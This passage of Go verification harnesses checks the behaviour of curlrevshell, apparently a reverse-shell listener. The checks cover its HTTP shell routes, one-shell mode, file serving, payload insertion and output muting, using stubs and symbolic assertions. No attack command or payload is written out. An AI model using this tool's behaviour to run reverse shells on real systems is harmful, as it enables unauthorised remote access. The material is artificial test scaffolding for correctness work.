		if connected == 0 {
			verifAssert(l.closes == 0, "C12.listener-stays-open-until-a-full-shell")
		}
		if consumedAll && connected > 0 {
			want := connected
			if verifCanary() {
				want = 0
			}
			verifAssert(l.closes == want, "C12.listener-closed-at-first-full-shell")
			verifAssert(l.ochAtClose >= 1, "C12.closing-notice-before-close")
		}
	}
	verifReach("C12.events.end")
}

// HarnessC12Help: callback help is re-printed after a shell dies exactly when not in one-shell mode.
func HarnessC12Help() {
	och := make(chan opshell.CLine, 64)
	l := &stubListener{}
	s := &Server{sl: verifNewLogger(), och: och, l: sstls.Listener{Listener: l}, oneShell: nondetBool(), cbHelp: "HELP"}
	evCh := make(chan iobroker.Event, 4)
	evCh <- iobroker.Event{Type: iobroker.EventTypeDisconnected}
	close(evCh)
	s.watchIOBEvents(context.Background(), evCh)
	help, total := countLines(och, "HELP")
	if s.oneShell {
		verifAssert(help == 0 && total == 0, "C12.no-new-callbacks-offered-in-one-shell-mode")
	} else {
		verifAssert(help == 1, "C12.help-reprinted-after-shell-dies")
	}
	verifReach("C12.help.end")
}

var errOther = errors.New("some other serve error")

// HarnessC12Serve: serveHTTP's result for every class of Serve error / shutdown error.
func HarnessC12Serve() {
	och := make(chan opshell.CLine, 64)
	l := &stubListener{}
	s := &Server{sl: verifNewLogger(), och: och, l: sstls.Listener{Listener: l}, oneShell: nondetBool(), ps: pinkSender{och}}
	cls := nondetChoice(3)
	switch cls {
	case 0:
		serveErr = net.ErrClosed
	case 1:
		serveErr = &net.OpError{Op: "accept", Err: net.ErrClosed}
	default:
		serveErr = errOther
	}
	shutdownErr = nil
	if nondetBool() {
		shutdownErr = errors.New("shutdown failed")
	}
	shutdownN = 0
	err := s.serveHTTP(context.Background())
	verifQuiesce()
	verifAssert(shutdownN == 1, "C12.graceful-shutdown-always-invoked")
	closedErr := cls != 2
	if s.oneShell && closedErr {
		verifAssert(err == ErrOneShellClosed, "C12.closed-listener-is-expected-in-one-shell-mode")
	} else {
		verifAssert(err != nil && err != ErrOneShellClosed && errors.Is(err, serveErr), "C12.other-serve-errors-are-reported")
	}
	verifReach("C12.serve.end")
}

// HarnessC09Mux: the routing table registered by newMux.
func HarnessC09Mux() {
	s := &Server{sl: verifNewLogger(), och: make(chan opshell.CLine, 8)}
	if nondetBool() {
		s.fdir = "/srv/files"
	}
	s.newMux()
	want := []string{"/i/{id}", "/o/{id}", "/io", "/io/", "/c"}
	if s.fdir != "" {
		want = append(want, "/")
	}
	if verifCanary() {
		want = append(want, "/x")
	}
	verifAssert(len(muxTable) == len(want), "C09.exactly-the-documented-routes")
	for i := range want {
		if i < len(muxTable) {
			verifAssert(muxTable[i].pattern == want[i], "C09.route-patterns")
		}
	}
	if s.fdir == "" {
		for _, e := range muxTable {
			verifAssert(e.pattern != "/" && e.pattern != "", "C09.no-file-route-when-unset")
		}
	}
	verifReach("C09.mux.end")
}

// HarnessC09File: fileHandler touches the file system only through s.fdir and always reports
// the request to the operator first.
func HarnessC09File() {
	och := make(chan opshell.CLine, 8)
	s := &Server{sl: verifNewLogger(), och: och, fdir: "/srv/files"}
	openMode = nondetChoice(3)
	statFails = nondetBool()
	openCalls, serveContent, fileServerOn, httpErrors, statCalls, serveFileOK = nil, nil, nil, nil, nil, nil
	fsServed, fileClosed, serveFileNo = 0, 0, 0
	p := nondetString(verifParam("n"))
	r := &http.Request{RemoteAddr: "c:1", URL: &url.URL{Path: "/" + p}}
	w := &nullRW{h: http.Header{}}
	s.fileHandler(w, r)
	first := takeLine(och)
	const frPre = "[c] File requested: /"
	verifAssert(len(first.Line) >= len(frPre) && first.Line[:len(frPre)] == frPre, "C09.every-file-request-is-reported-first") // the spelling of the path in the notice is C10's subject
	touched := append(append([]string{}, openCalls...), statCalls...)
	verifAssert(len(touched) >= 1, "C09.configured-path-is-looked-at")
	for _, t := range touched {
		verifAssert(t == "/srv/files", "C09.only-the-configured-path-is-opened")
	}
	switch {
	case openMode == 0 || statFails:
		verifAssert(len(httpErrors) == 1 && httpErrors[0] == 500, "C09.failure-is-500")
		verifAssert(len(serveContent) == 0 && fsServed == 0 && len(serveFileOK) == 0, "C09.no-content-on-failure")
	case openMode == 1:
		served := len(serveContent) + len(serveFileOK)
		for _, n := range serveFileOK {
			verifAssert(n == "/srv/files", "C09.single-file-mode-serves-that-file")
		}
		verifAssert(served == 1 && fsServed == 0 && serveFileNo == 0, "C09.single-file-served-for-every-path")
	default:
		ok := len(fileServerOn) == 1 && fileServerOn[0] == "/srv/files" && fsServed == 1 && len(serveContent) == 0
		if verifCanary() {
			ok = false
		}
		verifAssert(ok, "C09.directory-delegated-to-fileserver-rooted-at-fdir")
	}
	if openMode != 0 && len(openCalls) > 0 {
		verifAssert(fileClosed == len(openCalls), "C09.handle-closed")
	}
	verifReach("C09.file.end")
}
