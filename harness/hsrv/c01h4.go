package hsrv

// Handler wiring (C01 H4, C06, C11): each shell endpoint hands exactly its own request's
// transport, context, client address and callback ID to the matching broker entry point, once.

import (
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/url"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

//verif:stub (*github.com/magisterquis/curlrevshell/internal/iobroker.Broker).ConnectIn spyConnectIn
//verif:stub (*github.com/magisterquis/curlrevshell/internal/iobroker.Broker).ConnectOut spyConnectOut
//verif:stub (*github.com/magisterquis/curlrevshell/internal/iobroker.Broker).ConnectInOut spyConnectInOut
//verif:stub net/http.NewResponseController stubNewRC
//verif:stub (*net/http.ResponseController).EnableFullDuplex stubEnableFullDuplex
//verif:stub (*net/http.ResponseController).Flush stubRCFlush

type spyCall struct {
	kind string
	ctx  context.Context
	sl   *slog.Logger
	addr string
	w    io.Writer
	r    io.Reader
	key  string
}

var (
	spyCalls     []spyCall
	duplexFails  bool
	rcFlushFails bool
)

func spyConnectIn(b *iobroker.Broker, ctx context.Context, sl *slog.Logger, addr string, w io.Writer, key string) {
	spyCalls = append(spyCalls, spyCall{kind: "in", ctx: ctx, sl: sl, addr: addr, w: w, key: key})
}
func spyConnectOut(b *iobroker.Broker, ctx context.Context, sl *slog.Logger, addr string, r io.Reader, key string) {
	spyCalls = append(spyCalls, spyCall{kind: "out", ctx: ctx, sl: sl, addr: addr, r: r, key: key})
}
func spyConnectInOut(b *iobroker.Broker, ctx context.Context, sl *slog.Logger, addr string, w io.Writer, r io.Reader) {
	spyCalls = append(spyCalls, spyCall{kind: "inout", ctx: ctx, sl: sl, addr: addr, w: w, r: r})
}
func stubNewRC(w http.ResponseWriter) *http.ResponseController { return &http.ResponseController{} }
func stubEnableFullDuplex(c *http.ResponseController) error {
	if duplexFails {
		return &stubErr{"duplex not possible"}
	}
	return nil
}
func stubRCFlush(c *http.ResponseController) error {
	if rcFlushFails {
		return &stubErr{"flush failed"}
	}
	return nil
}

type bodyStub struct{ tag int }

func (b *bodyStub) Read(p []byte) (int, error) { return 0, io.EOF }
func (b *bodyStub) Close() error               { return nil }

type ctxKey struct{}

// HarnessC01Wiring: one request on one of the three shell endpoints.
func HarnessC01Wiring() {
	which := nondetChoice(3)
	id := nondetString(nondetLen(verifParam("n")))
	ra := nondetString(2)
	noSpecial(ra)
	och := make(chan opshell.CLine, 8)
	s := &Server{sl: verifNewLogger(), och: och, iob: &iobroker.Broker{}}
	body := &bodyStub{tag: 1}
	other := &bodyStub{tag: 2}
	_ = other
	ctx := context.WithValue(context.Background(), ctxKey{}, "this-request")
	r := (&http.Request{RemoteAddr: ra + ":4444", RequestURI: "/x/" + id, Method: "POST", Body: body, URL: &url.URL{Path: "/x"}, Header: http.Header{}}).WithContext(ctx)
	r.SetPathValue("id", id)
	w := &nullRW{h: http.Header{}}
	spyCalls = nil
	duplexFails, rcFlushFails = nondetBool(), nondetBool()
	switch which {
	case 0:
		s.inputHandler(w, r)
	case 1:
		s.outputHandler(w, r)
	default:
		s.inOutHandler(w, r)
	}
	if which == 2 && duplexFails {
		verifAssert(len(spyCalls) == 0, "C06.wiring.no-shell-without-full-duplex")
		cl := takeLine(och)
		verifAssert(cl.Color == ErrorColor, "C06.wiring.duplex-failure-reported")
		verifReach("C01.wiring.duplex-failed")
		return
	}
	verifAssert(len(spyCalls) == 1, "C01.wiring.exactly-one-broker-call")
	if len(spyCalls) != 1 {
		return
	}
	c := spyCalls[0]
	want := []string{"in", "out", "inout"}[which]
	if verifCanary() {
		want = "out"
	}
	verifAssert(c.kind == want, "C01.wiring.matching-entry-point")
	verifAssert(c.ctx == r.Context(), "C01.wiring.request-context")
	verifAssert(c.addr == ra, "C01.wiring.client-address")
	switch which {
	case 0:
		verifAssert(c.key == id && c.w == io.Writer(w), "C01.wiring.input-gets-own-writer-and-id")
	case 1:
		verifAssert(c.key == id && c.r == io.Reader(body), "C01.wiring.output-gets-own-body-and-id")
	default:
		verifAssert(c.w == io.Writer(w) && c.r == io.Reader(body), "C06.wiring.both-halves-from-the-same-request")
	}
	// the request logger carries the request's identity (C11)
	c.sl.Info("probe")
	n := verifLogCount()
	verifAssert(n >= 1, "C11.wiring.logger-usable")
	if n >= 1 {
		verifAssert(verifLogAttr(n-1, "id") == id, "C11.wiring.logger-has-id")
		verifAssert(verifLogAttr(n-1, "remote_addr") == ra+":4444", "C11.wiring.logger-has-remote-addr")
		verifAssert(verifLogAttr(n-1, "request_uri") == "/x/"+id, "C11.wiring.logger-has-uri")
	}
	verifReach("C01.wiring.end")
}
