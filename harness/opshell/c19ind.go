package opshell

// C19, inductive form: ONE arbitrary step from an ARBITRARY state that satisfies invariant I,
// instead of k steps from the initial state.  If every step preserves I and I holds initially
// (HarnessC19Steps checks that, and the same step obligations, from the real initial state),
// the step obligations hold after histories of any length.
//
//	I:  muted  =>  a plain write was attempted at some instant lp, 0 < lp <= now, and
//	               (the silence timer is armed  or  one of its callbacks is pending), and
//	               armed => lp + pause <= deadline <= now + pause
//
// The pre-state is built directly: the two fields are assigned, the timer object is brought
// into the chosen configuration through the time API itself (Reset / expiry / Stop).

import (
	"time"
)

func c19lp(s *Shell) int64 { return int64(s.lastPlainWrite.Sub(verifTime(0))) }

func c19inv(s *Shell, now int64, label string) {
	if !s.silenced {
		return
	}
	lp := c19lp(s)
	verifAssert(!s.lastPlainWrite.IsZero() && lp <= now, label+".muted-implies-a-recorded-attempt-not-in-the-future")
	verifAssert(verifTimerArmed(0) || verifTimerPending(0) > 0, label+".muted-implies-timer-armed-or-callback-pending")
	if verifTimerArmed(0) {
		d := verifTimerDeadline(0)
		verifAssert(d >= lp+pauseNS, label+".deadline-not-before-pause")
		verifAssert(d <= now+pauseNS, label+".deadline-within-pause-of-now")
	}
}

// HarnessC19Induct: one step from an arbitrary state satisfying I.
func HarnessC19Induct() {
	termOut = nil
	och := make(chan CLine, 1)
	s, _, err := New(make(chan string, 1), och, "> ", true, nil, "")
	if err != nil {
		return
	}
	verifFireTimer(0)
	verifQuiesce()

	// ---- arbitrary pre-state ----
	adv := nondetInt64()
	verifAssume(adv >= 0 && adv < 1<<40)
	verifAdvanceClock(adv)
	now := verifClock()
	muted := nondetBool()
	attempted := nondetBool() // whether a plain write was ever attempted while muted / Ctrl+O pressed
	lp := nondetInt64()
	if muted {
		attempted = true
	}
	if attempted {
		verifAssume(lp > 0 && lp <= now)
		s.lastPlainWrite = verifTime(lp)
	}
	s.silenced = muted
	pend := nondetChoice(3) // callbacks already due but not yet run
	for i := 0; i < pend; i++ {
		s.silenceTimer.Reset(0)
		verifExpireTimer(0)
	}
	armed := nondetBool()
	if muted && pend == 0 {
		armed = true
	}
	if armed {
		d := nondetInt64()
		if muted {
			verifAssume(d >= lp+pauseNS && d <= now+pauseNS)
		} else {
			verifAssume(d >= 0 && d <= now+pauseNS)
		}
		s.silenceTimer.Reset(time.Duration(d - now))
	} else {
		s.silenceTimer.Stop()
	}
	c19inv(s, now, "C19.ind.pre") // the construction satisfies I (sanity: must never fail)
	termOut = nil

	// ---- one step, after an arbitrary passage of time ----
	dt := nondetInt64()
	verifAssume(dt >= 0 && dt < 1<<40)
	verifAdvanceClock(dt)
	now = verifClock()
	lp0 := c19lp(s)
	n0 := len(termOut)
	kind := nondetChoice(5)
	switch kind {
	case 0: // Ctrl+O
		s.t.ControlCharacterCallback(0x0F)
		verifQuiesce()
		verifAssert(s.silenced, "C19.ctrl-o-mutes")
		verifAssert(len(termOut) == n0+1, "C19.ctrl-o-is-announced")
		if !muted {
			verifAssert(c19lp(s) == now, "C19.ind.calm-counted-from-the-ctrl-o")
		}
	case 1: // plain shell output
		b := nondetString(2)
		verifAssume(b != "")
		verifAssert(s.writePlain(b) == nil, "C19.plain-write-ok")
		if muted {
			verifAssert(len(termOut) == n0, "C19.muted-output-not-written")
			verifAssert(c19lp(s) == now, "C19.ind.suppressed-output-restarts-the-calm")
		} else {
			ok := len(termOut) == n0+1 && string(termOut[n0]) == b
			if verifCanary() {
				ok = len(termOut) == n0
			}
			verifAssert(ok, "C19.unmuted-output-written-unchanged")
		}
	case 2: // status / log line
		line := nondetString(2)
		_, err := s.Logf(ColorNone, true, "%s", line)
		verifAssert(err == nil, "C19.logf-ok")
		want := line
		if len(want) == 0 || want[len(want)-1] != '\n' {
			want += "\n"
		}
		verifAssert(len(termOut) == n0+1 && string(termOut[n0]) == want, "C19.status-lines-always-written")
	case 3: // the armed timer becomes due
		if !verifTimerArmed(0) || verifTimerDeadline(0) > now {
			verifAssume(false)
		}
		verifExpireTimer(0)
	case 4: // a pending callback runs
		if verifTimerPending(0) == 0 {
			verifAssume(false)
		}
		verifRunTimer(0)
		verifQuiesce()
		if muted {
			calm := now-lp0 >= pauseNS
			verifAssert(s.silenced == !calm, "C19.unmutes-exactly-after-pause-of-calm")
			if calm {
				verifAssert(len(termOut) == n0+1, "C19.unmuting-is-announced")
			} else {
				verifAssert(verifTimerArmed(0), "C19.early-callback-rearms")
			}
		} else {
			// a stale callback (one that became due before the mute ended) may repeat the
			// announcement; it must not mute anything and writes nothing else
			verifAssert(!s.silenced && len(termOut) <= n0+1, "C19.callback-when-unmuted-mutes-nothing")
		}
	}
	if kind != 0 {
		verifAssert(!s.silenced || muted, "C19.ind.only-ctrl-o-mutes")
	}
	c19inv(s, now, "C19.ind.post")
	verifReach("C19.ind.end")
}
