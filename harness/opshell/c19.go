package opshell

// Harness for C19: Ctrl+O mutes only shell output, ends by itself after calm.
//
// The real opshell.New runs with the terminal, tty and raw-mode calls stubbed, which yields the
// real timer callback and control-character callback closures.  Time is a symbolic variable:
// time.Now returns the engine's clock, which the harness advances by arbitrary non-negative
// amounts, and the silence timer is an object the harness fires as an environment step once
// it is armed and due.  Steps are atomic because every real step takes the shell's write lock.

import (
	"context"
	"os"

	"github.com/magisterquis/goxterm"
)

//verif:stub github.com/magisterquis/goxterm.NewTerminal stubNewTerminal
//verif:stub (*github.com/magisterquis/goxterm.Terminal).Write stubTermWrite
//verif:stub (*github.com/magisterquis/goxterm.Terminal).SetSize stubTermSetSize
//verif:stub (*github.com/magisterquis/goxterm.Terminal).SetPrompt stubTermSetPrompt
//verif:stub github.com/magisterquis/goxterm.GetSize stubGetSize
//verif:stub github.com/magisterquis/goxterm.MakeRaw stubMakeRaw
//verif:stub github.com/magisterquis/goxterm.Restore stubRestore
//verif:stub os.Open stubOsOpen
//verif:stub (*os.File).Fd stubFileFd
//verif:stub (*os.File).Close stubFileClose

var (
	termOut                     [][]byte // every Write to the terminal
	rawState                    *goxterm.State
	restored                    int
	ttyClosed                   int
	failOpen, failSize, failRaw bool
)

func stubNewTerminal(c interface {
	Read([]byte) (int, error)
	Write([]byte) (int, error)
}, prompt string) *goxterm.Terminal {
	return &goxterm.Terminal{Escape: &goxterm.EscapeCodes{}}
}
func stubTermWrite(t *goxterm.Terminal, b []byte) (int, error) {
	termOut = append(termOut, append([]byte{}, b...))
	return len(b), nil
}
func stubTermSetSize(t *goxterm.Terminal, w, h int) error { return nil }
func stubTermSetPrompt(t *goxterm.Terminal, p string)     {}
func stubGetSize(fd int) (int, int, error) {
	if failSize {
		return 0, 0, errStub
	}
	return 80, 24, nil
}
func stubMakeRaw(fd int) (*goxterm.State, error) {
	if failRaw {
		return nil, errStub
	}
	rawState = &goxterm.State{}
	return rawState, nil
}
func stubRestore(fd int, st *goxterm.State) error {
	if st == rawState {
		restored++
	}
	return nil
}
func stubOsOpen(name string) (*os.File, error) {
	if failOpen {
		return nil, errStub
	}
	return &os.File{}, nil
}
func stubFileFd(f *os.File) uintptr  { return 3 }
func stubFileClose(f *os.File) error { ttyClosed++; return nil }

type stubError struct{}

func (stubError) Error() string { return "stub failure" }

var errStub error = stubError{}

func plainShown(from int) []byte {
	var out []byte
	for _, w := range termOut[from:] {
		out = append(out, w...)
	}
	return out
}

const pauseNS = int64(PlainWritePause)

// HarnessC19Steps: k arbitrary steps from the real initial state.
func HarnessC19Steps() {
	k := verifParam("k")
	termOut = nil
	och := make(chan CLine, 1)
	s, cleanup, err := New(make(chan string, 1), och, "> ", true, nil, "")
	verifAssert(err == nil && s != nil && cleanup != nil, "C19.new-ok")
	if err != nil {
		return
	}
	// the zero-delay timer armed by New itself does nothing
	verifAssert(verifTimerCount() == 1 && verifTimerArmed(0), "C19.init.timer")
	verifFireTimer(0)
	verifQuiesce()
	verifAssert(!s.silenced && len(termOut) == 0, "C19.init.first-fire-does-nothing")
	// lines reach the terminal the way they do in the program: through handleOutput's dispatch
	via := verifParam("via") // 1: lines go through handleOutput's dispatch; 0: writePlain / Logf are called directly
	hctx, hcancel := context.WithCancel(context.Background())
	if via == 1 {
		go func() {
			verifActor()
			s.handleOutput(hctx)
		}()
	}
	ctrlO := 0
	var lastSuppressed int64 // clock value at the last suppressed (or muting) plain write
	for step := 0; step < k; step++ {
		d := nondetInt64()
		verifAssume(d >= 0 && d < 1<<40)
		verifAdvanceClock(d)
		now := verifClock()
		wasMuted := s.silenced
		n0 := len(termOut)
		switch nondetChoice(5) {
		case 0: // Ctrl+O
			s.t.ControlCharacterCallback(0x0F)
			verifQuiesce()
			ctrlO++
			verifAssert(s.silenced, "C19.ctrl-o-mutes")
			if !wasMuted {
				lastSuppressed = now
			}
			verifAssert(len(termOut) == n0+1, "C19.ctrl-o-is-announced")
		case 1: // plain shell output
			b := nondetString(2)
			verifAssume(b != "")
			if via == 1 {
				och <- CLine{Line: b, Plain: true}
				verifQuiesce()
			} else {
				verifAssert(s.writePlain(b) == nil, "C19.plain-write-ok")
			}
			if wasMuted {
				verifAssert(len(termOut) == n0, "C19.muted-output-not-written")
				lastSuppressed = now
			} else {
				verifAssert(len(termOut) == n0+1 && string(termOut[n0]) == b, "C19.unmuted-output-written-unchanged")
			}
			if ctrlO == 0 {
				verifAssert(len(termOut) == n0+1, "C19.nothing-suppressed-without-ctrl-o")
			}
		case 2: // status / log line
			line := nondetString(2)
			if via == 1 {
				// a notice from another subsystem, delivered over the output channel
				och <- CLine{Line: line, NoTimestamp: nondetBool()}
				verifQuiesce()
			} else {
				_, err := s.Logf(ColorNone, true, "%s", line)
				verifAssert(err == nil, "C19.logf-ok")
			}
			want := line
			if len(want) == 0 || want[len(want)-1] != '\n' {
				want += "\n"
			}
			if verifCanary() && wasMuted {
				want = ""
			}
			verifAssert(len(termOut) == n0+1 && string(termOut[n0]) == want, "C19.status-lines-always-written")
		case 3: // the silence timer expires (armed and due): its callback becomes pending
			if !verifTimerArmed(0) || verifTimerDeadline(0) > now {
				verifAssume(false)
			}
			verifExpireTimer(0)
		case 4: // a pending callback runs (possibly after further writes slipped in)
			if verifTimerPending(0) == 0 {
				verifAssume(false)
			}
			verifRunTimer(0)
			verifQuiesce()
			if wasMuted {
				calm := now-lastSuppressed >= pauseNS
				verifAssert(s.silenced == !calm, "C19.unmutes-exactly-after-pause-of-calm")
				if calm {
					verifAssert(len(termOut) == n0+1, "C19.unmuting-is-announced")
				} else {
					verifAssert(verifTimerArmed(0), "C19.early-callback-rearms")
				}
			} else {
				// a stale callback (one that became due before the mute ended) may repeat the
				// announcement; it must not mute anything and writes nothing else
				verifAssert(!s.silenced && len(termOut) <= n0+1, "C19.callback-when-unmuted-mutes-nothing")
			}
		}
		// invariant M: while muted there is an armed timer due no earlier than lastSuppressed + pause
		if s.silenced {
			verifAssert(verifTimerArmed(0) || verifTimerPending(0) > 0, "C19.muted-implies-timer-armed-or-callback-pending")
			if verifTimerArmed(0) {
				verifAssert(verifTimerDeadline(0) >= lastSuppressed+pauseNS, "C19.deadline-not-before-pause")
				verifAssert(verifTimerDeadline(0) <= now+pauseNS, "C19.deadline-within-pause-of-now")
			}
		}
	}
	hcancel()
	verifQuiesce()
	verifReach("C19.steps.end")
}
