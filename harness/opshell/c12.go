package opshell

// C12 (exit clause, operator side): once the shell's context has been cancelled (the one shell is
// gone, or shutdown), Shell.Do returns at the operator's next entered line at the latest.

import (
	"context"
	"errors"
	"os"

	"github.com/magisterquis/goxterm"
)

//verif:stub (*github.com/magisterquis/goxterm.Terminal).ReadLine stubReadLine
//verif:stub os/signal.Notify stubSignalNotify
//verif:stub os/signal.Stop stubSignalStop

var (
	readLines   int
	cancelAtRL  int // the context is cancelled while this ReadLine call is blocked (1-based)
	rlCancel    func(error)
	linesAfter  int
	cancelledRL bool
	maxLines    int
)

var errOneShell = errors.New("closed after shell received")

func stubReadLine(t *goxterm.Terminal) (string, error) {
	verifYield()
	readLines++
	if readLines == cancelAtRL {
		rlCancel(errOneShell) // happens while the operator has not typed anything yet
		cancelledRL = true
	} else if cancelledRL {
		linesAfter++
	}
	if readLines > maxLines {
		return "", errors.New("EOF from the harness: too many lines read")
	}
	return "line", nil
}
func stubSignalNotify(c chan<- os.Signal, sig ...os.Signal) {}
func stubSignalStop(c chan<- os.Signal)                     {}

// HarnessC12Exit: the context is cancelled while the n-th ReadLine is blocked.
func HarnessC12Exit() {
	termOut = nil
	ich := make(chan string, 16)
	och := make(chan CLine, 4)
	s, _, err := New(ich, och, "> ", true, nil, "")
	if err != nil {
		return
	}
	readLines, linesAfter, cancelledRL = 0, 0, false
	cancelAtRL = 1 + nondetChoice(verifParam("n"))
	maxLines = cancelAtRL + 3
	ctx, cancel := context.WithCancelCause(context.Background())
	rlCancel = cancel
	derr := s.Do(ctx)
	verifAssert(derr != nil, "C12.exit.do-reports-why-it-stopped")
	ok := linesAfter == 0
	if verifCanary() {
		ok = linesAfter > 0
	}
	verifAssert(ok, "C12.exits-at-the-next-entered-line-at-the-latest")
	verifAssert(readLines == cancelAtRL, "C12.exit.no-further-reads")
	verifReach("C12.exit.end")
}
