package opshell

// C10 (terminal side): a notice line reaches the terminal through a constant "%s".

import "context"

// HarnessC10Output: handleOutput prints an arbitrary notice line verbatim (plus newline).
func HarnessC10Output() {
	termOut = nil
	och := make(chan CLine, 2)
	s, _, err := New(make(chan string, 1), och, "> ", true, nil, "")
	if err != nil {
		return
	}
	line := nondetString(verifParam("n"))
	och <- CLine{Line: line, NoTimestamp: true}
	close(och)
	herr := s.handleOutput(context.Background())
	verifAssert(herr == ErrOutputClosed, "C10.output.ends-on-close")
	want := line
	if len(want) > 0 && want[len(want)-1] != '\n' {
		want += "\n"
	}
	if verifCanary() {
		want += "x"
	}
	got := string(plainShown(0))
	verifAssert(got == want, "C10.output.notice-printed-verbatim")
	verifReach("C10.output.end")
}
