package opshell

// C02 (operator side): a Ctrl+I insert puts the generated payload on the input channel as ONE
// entry, byte for byte (multi-line inserts included), and announces it.

import (
	"hash"
)

//verif:stub crypto/sha256.New stubSha256New

type nullHash struct{ n int }

func (h *nullHash) Write(p []byte) (int, error) { h.n += len(p); return len(p), nil }
func (h *nullHash) Sum(b []byte) []byte         { return append(b, 0xAB) }
func (h *nullHash) Reset()                      {}
func (h *nullHash) Size() int                   { return 1 }
func (h *nullHash) BlockSize() int              { return 1 }

var lastHash *nullHash

func stubSha256New() hash.Hash { lastHash = &nullHash{}; return lastHash }

// HarnessC02Insert: arbitrary payload bytes (newlines included).
func HarnessC02Insert() {
	termOut = nil
	ich := make(chan string, 64)
	var payload []byte
	if big := verifParam("big"); big > 0 {
		payload = bigPayload(big)
	} else {
		payload = nondetBytes(nondetLen(verifParam("m")), 0)
	}
	genErr := nondetBool()
	gen := func() ([]byte, error) {
		if genErr {
			return nil, errStub
		}
		return payload, nil
	}
	s, _, err := New(ich, make(chan CLine, 1), "> ", true, gen, "funcs")
	if err != nil {
		return
	}
	s.insert()
	if genErr || len(payload) == 0 {
		verifAssert(len(ich) == 0, "C02.insert.nothing-sent-on-error-or-empty")
		verifAssert(len(termOut) == 1, "C02.insert.refusal-announced")
		verifReach("C02.insert.refused")
		return
	}
	verifAssert(len(ich) == 1, "C02.insert.exactly-one-entry")
	if len(ich) == 1 {
		got := <-ich
		want := string(payload)
		if verifCanary() {
			want += "\n"
		}
		verifAssert(got == want, "C02.insert.payload-intact")
	}
	verifAssert(lastHash != nil && lastHash.n == len(payload), "C02.insert.hash-covers-what-was-sent")
	verifReach("C02.insert.ok")
}

// bigPayload: a payload of big-1, big or big+1 bytes: filler with arbitrary bytes (newlines
// included) at the ends, in the middle and around the quarter points.
func bigPayload(big int) []byte {
	size := big - 1 + nondetChoice(3)
	p := make([]byte, size)
	for i := range p {
		p[i] = 'x'
	}
	for _, at := range []int{0, size / 4, size / 2, size/2 + 1, size - size/4, size - 2, size - 1} {
		if at >= 0 && at < size {
			p[at] = nondetByte()
		}
	}
	return p
}
