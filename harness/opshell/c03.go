package opshell

// C03 (terminal side): whatever is queued on the operator channel - shell output chunks and
// notices in any mixture - is written to the terminal in queue order, output bytes unmodified,
// a notice never overtaking output queued before it.

import "context"

// HarnessC03Terminal: k queued lines of symbolic kind and content, then the channel is closed.
func HarnessC03Terminal() {
	k := verifParam("k")
	termOut = nil
	och := make(chan CLine, k+1)
	s, _, err := New(make(chan string, 1), och, "> ", true, nil, "")
	if err != nil {
		return
	}
	var want []byte
	for i := 0; i < k; i++ {
		line := nondetString(1 + nondetLen(1))
		if nondetBool() {
			och <- CLine{Line: line, Plain: true}
			want = append(want, line...)
		} else {
			och <- CLine{Line: line, NoTimestamp: nondetBool()}
			want = append(want, line...)
			if line[len(line)-1] != '\n' {
				want = append(want, '\n')
			}
		}
	}
	close(och)
	herr := s.handleOutput(context.Background())
	verifAssert(herr == ErrOutputClosed, "C03.terminal.ends-when-channel-closes")
	if verifCanary() && len(want) > 0 {
		want[0] ^= 1
	}
	verifAssert(string(plainShown(0)) == string(want), "C03.terminal.everything-shown-in-queue-order")
	verifReach("C03.terminal.end")
}
