package main

// Harness for C20 (start-up failures and exits are reported cleanly, never as a crash) and
// the exit-status clause of C12.  The real rmain runs as a control skeleton: every foreign
// call is a contract stub that fails or succeeds symbolically, so every single fault, every
// pair, and every combination with the informational flags is a path.  log.Fatalf / os.Exit
// are modelled as "the process ends here WITHOUT running deferred functions" (a flag makes
// later terminal-restore calls not count), and the real opshell.New / cleanup closure run on
// top of terminal stubs, so "the terminal is returned to the mode it was found in" is checked
// on the real cleanup path.

import (
	"context"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log/slog"
	"net/netip"
	"os"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/ctxerrgroup"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/goxterm"
)

//verif:stub flag.String stubFlagString
//verif:stub flag.Bool stubFlagBool
//verif:stub flag.StringVar stubFlagStringVar
//verif:stub flag.Func stubFlagFunc
//verif:stub flag.Parse stubFlagParse
//verif:stub os.Getenv stubGetenv
//verif:stub github.com/magisterquis/curlrevshell/lib/sstls.DefaultCertFile stubDefaultCertFile
//verif:stub io.WriteString stubWriteString
//verif:stub os.OpenFile stubOpenFile
//verif:stub (*os.File).Close stubFileClose
//verif:stub (*os.File).Write stubFileWrite
//verif:stub (*os.File).Fd stubFileFd
//verif:stub os.Open stubOsOpen
//verif:stub os.Stat stubOsStat
//verif:stub log.Fatalf stubFatalf
//verif:stub log.Printf stubPrintf
//verif:stub log/slog.NewJSONHandler stubJSONHandler
//verif:stub log/slog.New stubSlogNew
//verif:stub (*github.com/magisterquis/curlrevshell/lib/shellfuncsfile.Converter).From stubConvFrom
//verif:stub github.com/magisterquis/goxterm.NewTerminal stubNewTerminal
//verif:stub (*github.com/magisterquis/goxterm.Terminal).Write stubTermWrite
//verif:stub (*github.com/magisterquis/goxterm.Terminal).SetSize stubTermSetSize
//verif:stub (*github.com/magisterquis/goxterm.Terminal).SetPrompt stubTermSetPrompt
//verif:stub github.com/magisterquis/goxterm.GetSize stubGetSize
//verif:stub github.com/magisterquis/goxterm.MakeRaw stubMakeRaw
//verif:stub github.com/magisterquis/goxterm.Restore stubRestore
//verif:stub github.com/magisterquis/curlrevshell/lib/ezicanhazip.IPv4 stubIPv4
//verif:stub github.com/magisterquis/curlrevshell/internal/hsrv.New stubHsrvNew
//verif:stub (net/netip.Addr).String stubAddrString
//verif:stub (*github.com/magisterquis/curlrevshell/lib/ctxerrgroup.Group).GoContext stubGoContext
//verif:stub (*github.com/magisterquis/curlrevshell/lib/ctxerrgroup.Group).Wait stubGroupWait

type exitNow struct{}

var (
	// configuration
	cfgPrintTemplate, cfgPrintCtrlI, cfgIcanhazip bool
	cfgLogFile, cfgInsertFile                     string
	// faults
	failWriteStdout, failOpenLog, failConvert, failTTY, failSize, failRaw, failIcan, failHsrv bool
	statClass                                                                                 int // 0 ok, 1 not exist, 2 other error, 3 empty file
	groupClass                                                                                int // 0 nil, 1 EOF, 2 wrapped EOF, 3 ErrOneShellClosed, 4 other
	// observations
